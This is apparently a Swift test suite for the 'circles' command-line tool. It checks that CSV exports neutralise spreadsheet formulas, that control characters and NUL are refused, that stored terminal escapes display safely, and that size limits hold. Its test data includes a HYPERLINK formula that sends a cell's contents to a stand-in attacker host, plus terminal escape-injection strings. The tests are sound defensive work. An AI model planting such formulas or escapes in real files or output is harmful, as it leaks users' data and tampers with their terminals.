import Foundation
import Postgres
import PostgresTestSupport
import TestRequirements
import Testing

/// What text may get in (controls, NUL, lengths) and how it comes out (CSV, tables), through the binary.
@Suite("circles: bounded, clean text in; neutralised CSV and escaped tables out")
struct InputHygieneCommandTests {
    static let team = "Adult Social Care – North"
    static let workshop = "Whose Shoes? personalisation workshop"
    static let admin = "admin@council.example"
    static let lead = "lead@council.example"
    static let hyperlink = #"=HYPERLINK("http://evil.example/?leak="&A1,"Open")"#

    /// A migrated schema with the team, its lead, a member and the workshop; `circles` runs the
    /// binary against it (as the lead unless told otherwise).
    struct Setup {
        let database: TestDatabase
        let url: String

        func circles(_ arguments: [String], as actor: String = InputHygieneCommandTests.lead) async throws -> CommandResult {
            try await Circles.run(arguments, environment: ["CIRCLES_DATABASE_URL": url, "CIRCLES_ACTOR": actor])
        }

        /// Runs a command that must succeed and returns its standard output.
        func ok(_ arguments: [String], as actor: String = InputHygieneCommandTests.lead) async throws -> String {
            let result = try await circles(arguments, as: actor)
            guard result.status == 0 else {
                throw TestSetupError("circles \(arguments.joined(separator: " ")) exited \(result.status): \(result.standardError)")
            }
            return result.standardOutput
        }

        /// The ids of the workshop's action items by title.
        func actionIDs() async throws -> [String: String] {
            let text = try await ok(["action", "list", "--workshop", InputHygieneCommandTests.workshop, "--format", "json"])
            let rows = try JSONSerialization.jsonObject(with: Data(text.utf8)) as? [[String: Any]] ?? []
            return Dictionary(rows.compactMap { row in (row["title"] as? String).map { ($0, row["id"] as? String ?? "") } }) { $1 }
        }
    }

    func setUp() async throws -> Setup {
        let database = try await TestDatabase.make(prefix: "hygiene")
        let separator = database.url.contains("?") ? "&" : "?"
        let setup = Setup(database: database, url: database.url + separator + "options=-csearch_path%3D" + database.schema)
        let steps: [([String], String)] = [
            (["db", "migrate"], Self.admin),
            (["admin", "add", "--email", Self.admin, "--name", "Ada Admin"], Self.admin),
            (["team", "create", "--name", Self.team, "--time-zone", "Europe/London"], Self.admin),
            (["person", "add", "--email", Self.lead, "--name", "Priya Shah"], Self.admin),
            (["person", "add", "--email", "sw1@council.example", "--name", "Sol Worker"], Self.admin),
            (["team", "add-member", Self.team, "--email", Self.lead, "--role", "lead"], Self.admin),
            (["team", "add-member", Self.team, "--email", "sw1@council.example"], Self.admin),
            (["workshop", "record", "--team", Self.team, "--title", Self.workshop, "--date", "2026-11-10"], Self.lead),
        ]
        for (arguments, actor) in steps { _ = try await setup.ok(arguments, as: actor) }
        return setup
    }

    /// A file in a fresh temporary directory.
    func file(_ name: String, _ contents: Data) throws -> String {
        let directory = FileManager.default.temporaryDirectory.appendingPathComponent("circles-hygiene-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: directory, withIntermediateDirectories: true)
        let path = directory.appendingPathComponent(name).path
        try contents.write(to: URL(fileURLWithPath: path))
        return path
    }

    /// The values of `column` in a CSV document, read back with Python's csv module.
    static func column(_ column: String, of csv: String) throws -> [String] {
        let records = try PythonCSV.records(csv)
        let index = try #require(records.first?.firstIndex(of: column), "no column \(column) in \(records.first ?? [])")
        return records.dropFirst().map { $0[index] }
    }

    // MARK: Item 8: CSV formula injection

    @Test("titles and names that a spreadsheet would run as formulas come out of every CSV with a leading quote")
    func formulasNeutralised() async throws {
        let setup = try await setUp()
        let titles = [Self.hyperlink, "+SUM(1,2)", "-2+3", "@cmd", "Plain title"]
        let csv = "title,perspective\r\n" + titles.map { "\"\($0.replacingOccurrences(of: "\"", with: "\"\""))\",carer" }.joined(separator: "\r\n") + "\r\n"
        _ = try await setup.ok(["action", "import", try file("actions.csv", Data(csv.utf8)), "--workshop", Self.workshop])
        _ = try await setup.ok(["person", "add", "--email", "eve@council.example", "--name", "=Eve Formula"], as: Self.admin)
        _ = try await setup.ok(["team", "add-member", Self.team, "--email", "eve@council.example"], as: Self.admin)
        let ids = try await setup.actionIDs()
        _ = try await setup.ok([
            "action", "schedule", ids[Self.hyperlink] ?? "", "--rule", "FREQ=MONTHLY;BYDAY=2TU", "--start", "2027-01-12T14:00",
            "--duration", "60m",
        ])
        let expected = titles.map { $0 == "Plain title" ? $0 : "'" + $0 }

        let listed = try await setup.ok(["action", "list", "--workshop", Self.workshop, "--format", "csv"])
        #expect(Set(try Self.column("title", of: listed)) == Set(expected))
        let progress = try await setup.ok(["audit", "progress", "--workshop", Self.workshop, "--as-of", "2027-03-31", "--format", "csv"])
        #expect(Set(try Self.column("action", of: progress)) == Set(expected))
        let meetings = try await setup.ok(["meeting", "list", "--team", Self.team, "--from", "2027-01-01", "--days", "30", "--format", "csv"])
        #expect(try Self.column("title", of: meetings) == ["'" + Self.hyperlink])
        let people = try await setup.ok(["person", "list", "--format", "csv"], as: Self.admin)
        #expect(try Self.column("name", of: people).contains("'=Eve Formula"))
        let coverage = try await setup.ok(["audit", "coverage", "--team", Self.team, "--as-of", "2027-03-31", "--format", "csv"])
        #expect(try Self.column("name", of: coverage).contains("'=Eve Formula"))
        // The JSON listing keeps the title exactly as it was given.
        let json = try await setup.ok(["action", "list", "--workshop", Self.workshop, "--format", "json"])
        #expect(json.contains(#""=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")""#))
        try await setup.database.drop()
    }

    // MARK: Item 9: bytes that should never get in

    @Test("one-line fields refuse control characters, naming the field, the character and where it is")
    func oneLineFieldsRefuseControls() async throws {
        let setup = try await setUp()
        _ = try await setup.ok(["action", "add", "--workshop", Self.workshop, "--title", "Peer support", "--perspective", "practitioner"])
        let action = try await #require(try setup.actionIDs()["Peer support"])
        let cases: [([String], String, String)] = [
            (["workshop", "record", "--team", Self.team, "--title", "Bad\u{1B}[31m", "--date", "2026-11-11"], Self.lead,
             #"the title contains the control character U+001B (escape) at character 4; a title is one line of text, without line breaks, tabs or other control characters"#),
            (["team", "create", "--name", "North\u{7F}", "--time-zone", "Europe/London"], Self.admin,
             "the team name contains the control character U+007F (delete) at character 6"),
            (["person", "add", "--email", "tab@council.example", "--name", "Eve\tAdams"], Self.admin,
             "the name contains the control character U+0009 (tab) at character 4"),
            (["action", "add", "--workshop", Self.workshop, "--title", "one\ntwo", "--perspective", "carer"], Self.lead,
             "the title contains the control character U+000A (line feed) at character 4"),
            (["action", "status", action, "dropped", "--reason", "gone\u{07}"], Self.lead,
             "the reason contains the control character U+0007 (bell) at character 5"),
            (["action", "schedule", action, "--rule", "FREQ=MONTHLY;BYDAY=2TU", "--start", "2027-01-12T14:00", "--duration", "60m",
              "--location", "Room\r2"], Self.lead,
             "the location contains the control character U+000D (carriage return) at character 5"),
            (["workshop", "record", "--team", Self.team, "--title", "Fine", "--date", "2026-11-11", "--notes", "a\u{1B}]0;x\u{07}"], Self.lead,
             "the notes contain the control character U+001B (escape) at character 2; notes may contain line breaks and tabs but no other control characters"),
        ]
        for (arguments, actor, message) in cases {
            let result = try await setup.circles(arguments, as: actor)
            #expect(result.status == 1, "\(arguments)")
            #expect(result.standardError.contains(message), "\(arguments): \(result.standardError)")
            #expect(!result.standardError.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" }, "raw control in: \(result.standardError)")
        }
        #expect(try await setup.ok(["workshop", "list"]).contains("Bad") == false)
        // A multi-line field keeps line feeds and tabs; a CRLF becomes a line feed.
        _ = try await setup.ok([
            "action", "add", "--workshop", Self.workshop, "--title", "Multi", "--perspective", "carer", "--card", "first\r\nsecond\tcolumn",
        ])
        let shown = try await setup.ok(["action", "show", try #require(try setup.actionIDs()["Multi"])])
        #expect(shown.contains(#"  card: first\nsecond\tcolumn"#))
        try await setup.database.drop()
    }

    @Test("an import with NUL, control characters or over-long text lists every bad row by line and imports nothing")
    func importRefusesBadText() async throws {
        let setup = try await setUp()
        let json = """
            [
              {"title": "Fine", "perspective": "carer"},
              {"title": "Nul\\u0000here", "perspective": "carer"},
              {"title": "Esc\\u001b[2J", "perspective": "carer", "description": "two\\nlines\\tand a tab"},
              {"title": "Long", "perspective": "carer", "description": "\(String(repeating: "x", count: 5_001))"},
              {"title": "Card", "perspective": "carer", "source_card_text": "bell\\u0007"}
            ]
            """
        let result = try await setup.circles(["action", "import", try file("bad.json", Data(json.utf8)), "--workshop", Self.workshop])
        #expect(result.status == 1)
        #expect(
            result.standardError == """
                error: 4 rows of bad.json are invalid; nothing was imported:
                  line 3: the title contains a NUL character (U+0000) at character 4; no text may contain NUL — remove it
                  line 4: the title contains the control character U+001B (escape) at character 4; a title is one line of text, without line breaks, tabs or other control characters
                  line 5: a description may have at most 5,000 characters; this one has 5,001
                  line 6: the source card text contains the control character U+0007 (bell) at character 5; the source card text may contain line breaks and tabs but no other control characters

                """)
        #expect(try await setup.ok(["action", "list", "--workshop", Self.workshop]) == "(none)\n")
        try await setup.database.drop()
    }

    @Test("tables, details, progress reports and confirmations show control characters stored before the checks as visible escapes")
    func tablesEscapeStoredControls() async throws {
        let setup = try await setUp()
        _ = try await setup.ok(["action", "add", "--workshop", Self.workshop, "--title", "Peer support", "--perspective", "practitioner"])
        let action = try await #require(try setup.actionIDs()["Peer support"])
        let workshops = try await JSONSerialization.jsonObject(with: Data(try setup.ok(["workshop", "list", "--format", "json"]).utf8))
        let workshopID = try #require(((workshops as? [[String: Any]])?.first?["id"]) as? String)
        // As an older version could have stored them.
        let connection = try await setup.database.connect()
        try await connection.execute(unsafeSQL: """
            UPDATE workshops SET title = 'Old' || chr(27) || '[2J' || chr(10) || 'title';
            UPDATE action_items SET title = 'Ring' || chr(7) || ' ' || chr(155) || 'me', source_card_text = 'x' || chr(27) || ']0;pwned' || chr(7)
            """)
        await connection.close()
        let outputs = [
            try await setup.ok(["workshop", "list"]),
            try await setup.ok(["action", "list", "--workshop", workshopID]),
            try await setup.ok(["action", "show", action]),
            try await setup.ok(["audit", "progress", "--team", Self.team, "--as-of", "2027-03-31"]),
            try await setup.ok(["action", "status", action, "in-progress"]),
        ]
        for output in outputs {
            #expect(!output.unicodeScalars.contains { ($0.value < 0x20 && $0 != "\n") || (0x7F...0x9F).contains($0.value) }, "\(output)")
        }
        #expect(outputs[0].contains(#"Old\u{1B}[2J\ntitle"#))
        #expect(outputs[1].contains(#"Ring\u{7} \u{9B}me"#))
        #expect(outputs[2].contains(#"Ring\u{7} \u{9B}me"#) && outputs[2].contains(#"card: x\u{1B}]0;pwned\u{7}"#))
        #expect(outputs[3].contains(#"Ring\u{7} \u{9B}me"#) && outputs[3].contains(#"Old\u{1B}[2J\ntitle"#))
        #expect(outputs[4] == #""Ring\u{7} \u{9B}me" is now in-progress"# + "\n")
        try await setup.database.drop()
    }

    // MARK: Item 10: sizes

    @Test("every bounded field refuses one character more than its limit, naming the limit and the length")
    func lengthLimits() async throws {
        let setup = try await setUp()
        _ = try await setup.ok(["action", "add", "--workshop", Self.workshop, "--title", "Peer support", "--perspective", "practitioner"])
        let action = try await #require(try setup.actionIDs()["Peer support"])
        func text(_ count: Int) -> String { String(repeating: "é", count: count) }
        let cases: [([String], String, String)] = [
            (["workshop", "record", "--team", Self.team, "--title", text(301), "--date", "2026-11-11"], Self.lead,
             "a title may have at most 300 characters; this one has 301"),
            (["person", "add", "--email", "long@council.example", "--name", text(201)], Self.admin,
             "a name may have at most 200 characters; this one has 201"),
            (["team", "create", "--name", text(201), "--time-zone", "Europe/London"], Self.admin,
             "a team name may have at most 200 characters; this one has 201"),
            (["action", "add", "--workshop", Self.workshop, "--title", "x", "--perspective", "carer", "--description", text(5_001)], Self.lead,
             "a description may have at most 5,000 characters; this one has 5,001"),
            (["action", "add", "--workshop", Self.workshop, "--title", "x", "--perspective", "carer", "--card", text(2_001)], Self.lead,
             "the source card text may have at most 2,000 characters; this one has 2,001"),
            (["workshop", "record", "--team", Self.team, "--title", "x", "--date", "2026-11-11", "--notes", text(10_001)], Self.lead,
             "notes may have at most 10,000 characters; this one has 10,001"),
            (["action", "status", action, "dropped", "--reason", text(501)], Self.lead,
             "a reason may have at most 500 characters; this one has 501"),
            (["action", "schedule", action, "--rule", "FREQ=MONTHLY;BYDAY=2TU", "--start", "2027-01-12T14:00", "--duration", "60m",
              "--location", text(201)], Self.lead,
             "a location may have at most 200 characters; this one has 201"),
        ]
        for (arguments, actor, message) in cases {
            let result = try await setup.circles(arguments, as: actor)
            #expect(result.status == 1, "\(arguments.prefix(3))")
            #expect(result.standardError == "error: \(message)\n", "\(arguments.prefix(3))")
        }
        // At the limit is accepted.
        _ = try await setup.ok(["workshop", "record", "--team", Self.team, "--title", text(300), "--date", "2026-11-11", "--notes", text(10_000)])
        try await setup.database.drop()
    }

    @Test("an import of more than 1,000 action items, or of more than 8 MiB, is refused whole, naming the limit")
    func importLimits() async throws {
        let setup = try await setUp()
        let rows = (1...1_001).map { "Action \($0),carer" }.joined(separator: "\n")
        let many = try await setup.circles(["action", "import", try file("many.csv", Data("title,perspective\n\(rows)\n".utf8)), "--workshop", Self.workshop])
        #expect(many.status == 1)
        #expect(
            many.standardError
                == "error: many.csv has 1,001 action items; an import may have at most 1,000; nothing was imported — split it into several files\n")
        let big = Data("title,perspective\n".utf8) + Data(repeating: UInt8(ascii: "x"), count: 8 * 1024 * 1024)
        let large = try await setup.circles(["action", "import", try file("big.csv", big), "--workshop", Self.workshop])
        #expect(large.status == 1)
        #expect(
            large.standardError
                == "error: big.csv has 8,388,626 bytes; an import may have at most 8,388,608 bytes (8 MiB); nothing was imported — split it into several files\n")
        #expect(try await setup.ok(["action", "list", "--workshop", Self.workshop]) == "(none)\n")
        // Exactly 1,000 is accepted.
        let thousand = (1...1_000).map { "Action \($0),carer" }.joined(separator: "\n")
        _ = try await setup.ok(["action", "import", try file("thousand.csv", Data("title,perspective\n\(thousand)\n".utf8)), "--workshop", Self.workshop])
        try await setup.database.drop()
    }
}
